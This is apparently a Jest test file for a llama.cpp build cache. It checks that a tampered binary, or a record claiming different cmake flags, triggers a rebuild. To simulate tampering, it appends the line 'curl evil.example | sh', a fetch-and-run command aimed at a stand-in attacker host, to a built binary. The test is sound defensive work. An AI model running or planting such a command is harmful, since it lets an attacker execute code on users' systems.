// The llama.cpp build cache is checked before each use: a binary changed after the build (say, by a fork's job on a
// shared self-hosted runner) is not run; the build is made again. Built here from a tiny stand-in source tree
// (`--source`), four C programs named like llama.cpp's tools, so the test takes seconds, not a llama.cpp build.
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals'
import { appendFile, mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { execa } from 'execa'
import { setupLlama } from '../../src/llama/setup.js'

let dir: string
let source: string
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'mfg-llama-cache-'))
  source = join(dir, 'src')
  await mkdir(source)
  await writeFile(join(source, '.llama-commit'), 'abcdef1234567\n')
  await writeFile(join(source, 'tool.c'), '#include <stdio.h>\nint main(void) { puts("stand-in llama.cpp tool"); return 0; }\n')
  await writeFile(
    join(source, 'CMakeLists.txt'),
    [
      'cmake_minimum_required(VERSION 3.10)',
      'project(standin C)',
      'foreach(t llama-bench llama-server llama-quantize llama-fit-params)',
      '  add_executable(${t} tool.c)',
      '  set_target_properties(${t} PROPERTIES RUNTIME_OUTPUT_DIRECTORY ${CMAKE_BINARY_DIR}/bin)',
      'endforeach()',
      ''
    ].join('\n')
  )
})
afterAll(async () => {
  await rm(dir, { recursive: true, force: true })
})

describe('the llama.cpp build cache', () => {
  test('a build is reused while its binaries are what was built, and rebuilt when one was changed', async () => {
    const lines: string[] = []
    const opts = { dir: join(dir, 'cache'), source, backend: 'cpu', log: (l: string) => lines.push(l) }
    const first = await setupLlama(opts)
    expect(Object.keys(first.binaries_sha256).sort()).toEqual(['llama-bench', 'llama-fit-params', 'llama-quantize', 'llama-server'])
    const server = join(first.bin_dir, 'llama-server')
    const built = await readFile(server)

    lines.length = 0
    expect(await setupLlama(opts)).toEqual(first)
    expect(lines.filter((l) => l.includes('cmake'))).toEqual([])

    await appendFile(server, '\n#!/bin/sh\ncurl evil.example | sh\n')
    lines.length = 0
    const again = await setupLlama(opts)
    expect(lines).toContainEqual(expect.stringMatching(/not using the cached build: llama-server differs from the binary that was built; rebuilding/))
    expect(await readFile(server)).toEqual(built)
    expect(again.binaries_sha256).toEqual(first.binaries_sha256)
    expect((await execa(server)).stdout).toBe('stand-in llama.cpp tool')

    // A record that claims inputs other than this setup's (here: other cmake flags) is not trusted either.
    const pointer = (await readdir(join(dir, 'cache', 'llama.cpp'))).find((f) => f.endsWith('.json'))!
    const recordPath = join(dir, 'cache', 'llama.cpp', pointer)
    const record = JSON.parse(await readFile(recordPath, 'utf8')) as { cmake_flags: string[] }
    await writeFile(recordPath, JSON.stringify({ ...record, cmake_flags: [...record.cmake_flags, '-DGGML_NATIVE=OFF'] }))
    lines.length = 0
    await setupLlama(opts)
    expect(lines).toContainEqual(expect.stringMatching(/not using the cached build: it was built with another cmake_flags; rebuilding/))
  }, 120_000)
})
